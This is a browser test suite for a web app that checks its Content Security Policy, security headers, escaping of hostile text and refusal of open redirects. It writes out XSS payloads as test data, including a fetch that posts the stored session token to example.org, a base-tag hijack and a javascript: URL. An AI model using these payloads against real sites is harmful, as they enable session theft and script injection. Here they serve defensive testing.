"""What the site does with hostile text, with scripts that got in, and with the internet: nothing."""

from __future__ import annotations

import secrets
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.browser.browsing import DESKTOP, PHONE, OpenPage, Watch
from tests.browser.conftest import sign_up
from tests.browser.hostile import HOSTILE, MARKUP, expect_only_text

SIZES = pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])

INJECT = """how => new Promise(resolve => {
  addEventListener("securitypolicyviolation", event => resolve([event.effectiveDirective, event.blockedURI]), {once: true});
  how === "inline" ? document.body.append(Object.assign(document.createElement("script"), {textContent: "window.hacked = 1"}))
  : how === "foreign" ? document.body.append(Object.assign(document.createElement("script"), {src: "https://example.org/x.js"}))
  : how === "handler" ? document.body.insertAdjacentHTML("beforeend", "<img src=data:, onerror='window.hacked = 1'>")
  : how === "style" ? document.body.insertAdjacentHTML("beforeend", "<p style='position: fixed'>")
  : how === "eval" ? setTimeout(() => { try { eval("window.hacked = 1") } catch {} })
  : how === "frame" ? document.body.append(Object.assign(document.createElement("iframe"), {src: "https://example.org/"}))
  : how === "picture" ? document.body.append(Object.assign(new Image(), {src: "https://example.org/x.png"}))
  : how === "call" ? fetch("https://example.org/", {method: "POST", body: localStorage["slotport.session"]}).catch(() => 0)
  : how === "base" ? document.head.prepend(Object.assign(document.createElement("base"), {href: "https://example.org/"}))
  : resolve(null);
})"""


@pytest.mark.parametrize(
    ("how", "blocked"),
    [
        ("inline", ["script-src-elem", "inline"]),
        ("foreign", ["script-src-elem", "https://example.org/x.js"]),
        ("handler", ["script-src-attr", "inline"]),
        ("style", ["style-src-attr", "inline"]),
        ("eval", ["script-src", "eval"]),
        ("frame", ["frame-src", "https://example.org"]),
        ("picture", ["img-src", "https://example.org/x.png"]),
        ("call", ["connect-src", "https://example.org/"]),
        ("base", ["base-uri", "https://example.org/"]),
    ],
)
def test_what_is_injected_is_blocked(page: Page, watch: Watch, how: str, blocked: list[str]) -> None:
    page.goto("/")
    expect(page.get_by_role("heading", name="Sign in", exact=True)).to_be_visible()
    watch.expect("Content Security Policy|^foreign request: .*example.org|example.org.*: csp$")
    assert page.evaluate(INJECT, how) == blocked
    assert page.evaluate("window.hacked ?? null") is None
    assert [request.url for request in watch.requests if "example.org" in request.url and request.failure != "csp"] == []


def test_pages_say_who_may_frame_them_and_tell_nobody_where_one_was(base_url: str) -> None:
    answer = httpx.get(f"{base_url}/", headers={"Accept": "text/html"}, timeout=60)
    policy = dict(part.strip().split(" ", 1) for part in answer.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert (policy["script-src"], policy["style-src"], policy["frame-ancestors"]) == ("'self'", "'self'", "'self'")
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["x-content-type-options"] == "nosniff"


@SIZES
@pytest.mark.parametrize("key", ["<script>window.hacked=1</script>", MARKUP, "%", "a" * 4_000, "__proto__", "constructor", ""])
def test_any_error_key_is_only_read(open_page: OpenPage, size: tuple[int, int], key: str) -> None:
    page = open_page(size=size)
    page.goto(f"/#server_error:{quote(key) if key != '%' else key}")
    expect(page.get_by_role("heading", name="Something went wrong", exact=True)).to_be_visible()
    if key:
        expect(page.get_by_text(key, exact=True)).to_be_visible()
    expect_only_text(page)


@SIZES
@pytest.mark.parametrize("name", [text[:1_000] for text in HOSTILE], ids=["markup", "right-to-left", "long"])
def test_any_name_of_a_person_fits_the_header(open_page: OpenPage, base_url: str, size: tuple[int, int], name: str) -> None:
    with httpx.Client(base_url=base_url, timeout=60) as http:
        page = open_page(sign_up(http, name), size=size)
        page.goto("/#/account")
        if size == PHONE:
            page.get_by_role("button", name="Menu").click()
        expect(page.get_by_role("navigation", name="Site").get_by_text(name, exact=True)).to_be_visible()
        expect(page.get_by_role("button", name="Sign out", exact=True)).to_be_in_viewport()
        expect_only_text(page)


def test_a_broken_session_in_the_browser_is_no_session(page: Page) -> None:
    page.goto("/")
    for kept in ("{", "null", '{"token": 5}', '{"token": "x"}', "[]"):
        page.evaluate("kept => localStorage.setItem('slotport.session', kept)", kept)
        page.reload()
        expect(page.get_by_role("main")).to_be_visible()


@pytest.mark.parametrize("to", ["https://example.org/", "//example.org", "javascript:window.hacked=1", "#//example.org"])
def test_nobody_is_sent_on_to_another_site(page: Page, base_url: str, to: str) -> None:
    email = f"{secrets.token_hex(8)}@example.org"
    page.goto(f"/#/signup?to={quote(to, safe='')}")
    page.get_by_label("Name").fill("Ada")
    page.get_by_label("E-mail").fill(email)
    page.get_by_label("Password").fill("correct horse battery")
    page.get_by_role("button", name="Sign up").click()
    expect(page.get_by_role("button", name="Sign out", exact=True)).to_be_visible()
    assert page.url.startswith(f"{base_url}/")
    expect_only_text(page)
